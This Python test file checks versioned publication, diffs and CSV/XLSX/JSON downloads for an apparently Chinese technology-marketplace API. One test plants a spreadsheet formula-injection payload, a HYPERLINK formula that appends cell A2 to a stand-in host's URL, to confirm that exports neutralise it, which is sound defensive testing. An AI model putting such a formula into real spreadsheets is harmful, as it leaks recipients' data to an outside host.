"""Publishing the two lists: numbered versions, their diffs, and downloads."""

import csv
import io

from openpyxl import load_workbook

from tests.factories import create_listing


async def test_versions_diff_and_downloads(client, market, operator, university):
    a = await create_listing(market, "achievements", university, title="第一项成果：高强度碳纤维", external_id="P-1")
    b = await create_listing(market, "achievements", university, title="第二项成果：固态电解质", external_id="P-2")

    v1 = await client.post("/v1/publications", json={"list_kind": "achievements"}, headers=operator.headers)
    assert v1.status_code == 201
    v1 = v1.json()
    assert (v1["version"], v1["total"], v1["added"], v1["removed"], v1["changed"]) == (1, 2, 2, 0, 0)

    await client.post(f"/v1/achievements/{b['id']}/archive", headers=university.headers)
    await client.patch(f"/v1/achievements/{a['id']}", headers=university.headers,
                       json={"price": {"negotiable": True}})  # minor: stays published, content changes
    c = await create_listing(market, "achievements", university, title="第三项成果：钠离子电池", external_id="P-3")
    v2 = (await client.post("/v1/publications", json={"list_kind": "achievements"}, headers=operator.headers)).json()
    assert (v2["version"], v2["total"], v2["added"], v2["removed"], v2["changed"]) == (2, 2, 1, 1, 1)
    assert v2["added_ids"] == [c["id"]] and v2["removed_ids"] == [b["id"]] and v2["changed_ids"] == [a["id"]]

    old_csv = await client.get(f"/v1/publications/{v1['id']}/download", params={"format": "csv"})
    assert old_csv.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(old_csv.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["编号", "成果名称", "完成单位"]
    assert sorted(r[1] for r in rows[1:]) == sorted([a["title"], b["title"]])  # the old version is frozen

    xlsx = await client.get(f"/v1/publications/{v2['id']}/download", params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.max_row == 3
    as_json = (await client.get(f"/v1/publications/{v2['id']}/download", params={"format": "json"})).json()
    assert {i["id"] for i in as_json} == {a["id"], c["id"]} and all("contact" not in i for i in as_json)
    assert [p["version"] for p in (await client.get("/v1/publications")).json()] == [2, 1]


async def test_per_field_lists_are_numbered_separately(client, market, operator, university):
    await create_listing(market, "achievements", university, field="advanced_energy.hydrogen", external_id="F-1")
    await create_listing(market, "achievements", university, field="biomedicine.tcm", external_id="F-2")
    energy = (await client.post("/v1/publications", headers=operator.headers,
                                json={"list_kind": "achievements", "field": "advanced_energy"})).json()
    whole = (await client.post("/v1/publications", headers=operator.headers,
                               json={"list_kind": "achievements"})).json()
    assert (energy["version"], energy["total"]) == (1, 1) and (whole["version"], whole["total"]) == (1, 2)


async def test_publishing_with_nothing_changed_is_refused_unless_forced(client, market, operator, university):
    await create_listing(market, "achievements", university, external_id="N-1")
    body = {"list_kind": "achievements"}
    assert (await client.post("/v1/publications", json=body, headers=operator.headers)).status_code == 201

    again = await client.post("/v1/publications", json=body, headers=operator.headers)
    assert again.status_code == 409 and again.json()["code"] == "publication.no_changes"
    forced = await client.post("/v1/publications", json={**body, "force": True}, headers=operator.headers)
    assert forced.status_code == 201
    assert (forced.json()["version"], forced.json()["added"], forced.json()["changed"]) == (2, 0, 0)


async def test_a_formula_in_a_title_stays_text_in_both_downloads(client, market, operator, university):
    title = '=HYPERLINK("http://x.example"&A2,"点击")'
    await create_listing(market, "achievements", university, title=title, keywords=["+86电话", "@某人"],
                         external_id="X-1")
    version = (await client.post("/v1/publications", json={"list_kind": "achievements"},
                                 headers=operator.headers)).json()

    xlsx = await client.get(f"/v1/publications/{version['id']}/download", params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    cell = sheet.cell(row=2, column=2)
    assert (cell.value, cell.data_type) == (title, "s")
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)

    downloaded = await client.get(f"/v1/publications/{version['id']}/download", params={"format": "csv"})
    header, line = list(csv.reader(io.StringIO(downloaded.content.decode("utf-8-sig"))))
    assert line[header.index("成果名称")] == "'" + title
    assert line[header.index("关键词")] == "'+86电话、@某人"


async def test_the_xlsx_a_city_receives_has_labels_numbers_and_the_diff(client, market, operator, firm):
    kept = await create_listing(market, "needs", firm, title="茶园采摘机器人", external_id="D-1")
    gone = await create_listing(market, "needs", firm, title="废水处理工艺", external_id="D-2",
                                budget={"negotiable": True})
    (await client.post("/v1/publications", json={"list_kind": "needs"}, headers=operator.headers)).json()
    await client.post(f"/v1/needs/{gone['id']}/archive", headers=firm.headers)
    new = await create_listing(market, "needs", firm, title="揭榜：高效光伏组件", external_id="D-3",
                               challenge={"reward": "2000000.00", "opens": "2026-11-01", "closes": "2027-03-31"})
    v2 = (await client.post("/v1/publications", json={"list_kind": "needs"}, headers=operator.headers)).json()

    xlsx = await client.get(f"/v1/publications/{v2['id']}/download", params={"format": "xlsx"})
    book = load_workbook(io.BytesIO(xlsx.content))
    listed, changes = book.worksheets
    header = [c.value for c in listed[1]]
    lines = {r[header.index("编号")]: dict(zip(header, r, strict=True))
             for r in listed.iter_rows(min_row=2, values_only=True)}
    assert set(lines) == {kept["id"], new["id"]}
    row = lines[new["id"]]
    assert (row["技术领域"], row["所在地区"], row["合作方式"]) == ("智慧农业", "蒲江县", "合作开发、许可")
    assert row["最低技术成熟度(TRL)"] == 5 and isinstance(row["最低技术成熟度(TRL)"], int)
    assert (row["预算最低(元)"], row["预算最高(元)"]) == (300000, 800000)
    assert (row["揭榜挂帅"], row["揭榜奖金(元)"], row["揭榜截止"]) == ("是", 2000000, "2027-03-31")
    assert lines[kept["id"]]["揭榜挂帅"] == "否" and lines[kept["id"]]["揭榜奖金(元)"] is None
    assert [tuple(r) for r in changes.iter_rows(values_only=True)] == [
        ("变动", "编号", "名称"), ("新增", new["id"], "揭榜：高效光伏组件"), ("移除", gone["id"], "废水处理工艺")]

    v1_csv = await client.get(f"/v1/publications/{v2['id']}/download", params={"format": "csv"})
    header, *body = list(csv.reader(io.StringIO(v1_csv.content.decode("utf-8-sig"))))
    assert header[:3] == ["编号", "需求名称", "需求单位"]
    assert {line[header.index("所在地区")] for line in body} == {"蒲江县"}


async def test_negotiable_budgets_read_面议_in_both_columns(client, market, operator, firm):
    await create_listing(market, "needs", firm, external_id="M-1", budget={"negotiable": True})
    version = (await client.post("/v1/publications", json={"list_kind": "needs"}, headers=operator.headers)).json()
    xlsx = await client.get(f"/v1/publications/{version['id']}/download", params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    assert (sheet.cell(2, header.index("预算最低(元)") + 1).value,
            sheet.cell(2, header.index("预算最高(元)") + 1).value) == ("面议", "面议")


async def test_the_versions_of_one_field_are_listed_by_field(client, market, operator, university):
    await create_listing(market, "achievements", university, field="advanced_energy.hydrogen", external_id="L-1")
    await client.post("/v1/publications", headers=operator.headers, json={"list_kind": "achievements"})
    energy = (await client.post("/v1/publications", headers=operator.headers,
                                json={"list_kind": "achievements", "field": "advanced_energy"})).json()
    listed = (await client.get("/v1/publications", params={"field": "advanced_energy"})).json()
    assert [p["id"] for p in listed] == [energy["id"]]
    unknown = await client.get("/v1/publications", params={"field": "no_such_field"})
    assert unknown.status_code == 422 and unknown.json()["field"] == "query.field"
